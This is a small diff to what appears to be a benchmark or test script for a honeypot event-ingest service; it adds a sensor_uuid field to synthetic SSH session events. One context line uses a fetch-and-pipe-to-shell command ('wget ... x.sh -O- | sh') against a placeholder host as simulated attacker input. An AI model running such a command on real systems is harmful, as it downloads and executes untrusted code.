@@ -71,6 +71,7 @@ def wire_batches(sensor: str, count: int, batch: int) -> list[ingest_pb2.StreamE
                 session=session,
                 src_ip=f"203.0.113.{i % 250 + 1}",
                 sensor=sensor,
+                sensor_uuid=f"{sensor}-uuid",
                 protocol="ssh",
                 context={"pool_node": "n1", "guest": "g1", "lease": "L1"},
                 input=f"wget http://198.51.100.{i % 250}/x.sh -O- | sh",
@@ -165,6 +166,7 @@ async def latency(
                             session=new_session_id(),
                             src_ip="203.0.113.9",
                             sensor=f"s{i % len(spools)}",
+                            sensor_uuid=f"s{i % len(spools)}-uuid",
                             protocol="ssh",
                             input="id",
                         )
